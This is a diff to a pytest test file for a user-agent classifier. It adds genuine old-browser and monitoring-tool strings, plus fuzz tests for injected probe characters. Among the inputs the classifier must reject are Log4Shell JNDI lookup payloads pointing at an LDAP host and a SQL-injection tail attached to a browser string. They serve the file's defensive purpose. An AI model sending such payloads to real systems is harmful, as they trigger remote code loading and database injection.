@@ -190,6 +190,19 @@ OLD_BUT_REAL = {
                                                         "Firefox/78.0",
     "Safari 5.1 on Windows": "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/534.57.2 (KHTML, like Gecko) "
                              "Version/5.1.7 Safari/534.57.2",
+    "Firefox 4 (rv:2.0; rv follows the version from 5)": "Mozilla/5.0 (Windows NT 6.1; rv:2.0) Gecko/20100101 "
+                                                         "Firefox/4.0",
+    "Pale Moon on Goanna, Gecko's fork": "Mozilla/5.0 (X11; Linux x86_64; rv:3.0) Goanna/20170207 PaleMoon/27.1.0",
+    "Pale Moon numbering its own Firefox token": "Mozilla/5.0 (Windows NT 5.1; rv:2.0) Gecko/20110407 Firefox/4.0.3 "
+                                                 "PaleMoon/4.0.3",
+    "a WebKit build ua-parser has no name for (ABrowse on Syllable)": "Mozilla/5.0 (compatible; U; ABrowse 0.6; "
+                                                                      "Syllable) AppleWebKit/420+ (KHTML, like Gecko)",
+    "an iPhone app writing its own WebKit string (no Mobile/)": "Mozilla/5.0 (iPhone; CPU iPhone OS 11_2_6 like Mac OS X) "
+                                                               "AppleWebKit/604.5.6 (KHTML, like Gecko) "
+                                                               "Snapchat/10.38.0.25 (iPhone8,1; iOS 11.2.6; gzip)",
+    "a vendor's token on Chrome 30 (Nokia X)": "Mozilla/5.0 (Linux; Android 4.1.2; Nokia_X Build/JZO54K) AppleWebKit/537.36 "
+                                              "(KHTML, like Gecko) Chrome/30.0.1599.82 Mobile Safari/537.36 "
+                                              "NokiaBrowser/1.2.0.12",
     "Firefox 3 with a .NET comment": "Mozilla/5.0 (Windows; U; Windows NT 5.1; en-US; rv:1.9.0.5) Gecko/2008120122 "
                                      "Firefox/3.0.5 (.NET CLR 3.5.30729)",
 }
@@ -230,6 +243,9 @@ def test_old_but_real_browsers_are_real_browsers(name):
      "Chrome/136.0.0.0 Mobile Safari/537.36 Chrome-Lighthouse", "tokens"),
     ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/132.0.0.0 "
      "Safari/537.36; Manus-User/1.0", "tokens"),
+    # a word inside WebKit's own (KHTML, like Gecko) comment
+    ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko; Google Search Console) "
+     "Chrome/41.0.2272.118 Safari/537.36", "tokens"),
     # a monitor's name in Firefox's comment after rv:
     ("Mozilla/5.0 (X11; Linux x86_64; rv:45.0; Rigor) Gecko/20100101 Firefox/45.0", "tokens"),
     # Chrome 160 in January 2026 (Chrome 143 was current)
@@ -244,7 +260,13 @@ def test_browsers_whose_parts_do_not_fit_together(ua, reason):
 @pytest.mark.parametrize("ua", [
     # the unknown automation of issue 17, which no list kyc used named
     "Node.js", "libredtail-http", "Datadog Agent/5.10.1", "Seobility", "Mozilla/5.0 (compatible; PhishBucketRust/1.0)",
-    "${jndi:ldap://198.51.100.7:1389/a}", "Dalvik/2.1.0 (Linux; U; Android 13; SM-A536B Build/TP1A.220624.014)",
+    "${jndi:ldap://198.51.100.7:1389/a}",
+    # monitors and synthetic tests that uap-core names (its rules before any browser's), on a browser's tokens
+    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/144.0.7559.133 Safari/537.36 "
+    "RuxitSynthetic/1.0 v148429737999 t4519022964667904509",
+    "Mozilla/5.0 (X11; Linux x86_64; Catchpoint) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/75.0.3770.90 "
+    "Safari/537.36",
+    "Dalvik/2.1.0 (Linux; U; Android 13; SM-A536B Build/TP1A.220624.014)",
     "MyApp/3.2 CFNetwork/1410.0.3 Darwin/22.6.0", "Mozilla/5.0", "",
     "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 "
     "Safari/537.36' OR '1'='1",
@@ -288,7 +310,16 @@ def test_generated_user_agents_never_raise_and_never_pass_without_a_browser_form
 
 @settings(max_examples=200, deadline=None)
 @given(st.sampled_from(sorted(OLD_BUT_REAL.values())),
-       st.text(alphabet="'\"<>{}$`\\", min_size=1, max_size=5), st.integers(min_value=0, max_value=400))
+       st.one_of(st.text(alphabet="'\"<>`\\", min_size=1, max_size=5),
+                 st.tuples(st.sampled_from(["${", "{{", "$("]), st.text(max_size=20)).map("".join)),
+       st.integers(min_value=0, max_value=400))
 def test_probe_characters_spliced_into_a_real_browser_make_it_unrecognised(ua, probe, at):
     spliced = ua[:min(at, len(ua))] + probe + ua[min(at, len(ua)):]
     assert device_signals(spliced, None, at=JAN_2026)["real_browser"] is False
+
+
+def test_bare_braces_of_a_toolbar_are_not_a_probe():
+    # an Internet Explorer toolbar writes CK={} into IE 11's string; no template is expanded there
+    ie11 = "Mozilla/5.0 CK={} (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko"
+    assert device_signals(ie11, None, at=JAN_2026)["real_browser"] is True
+    assert device_signals(ie11.replace("{}", "${jndi:ldap://x/a}"), None, at=JAN_2026)["real_browser"] is False
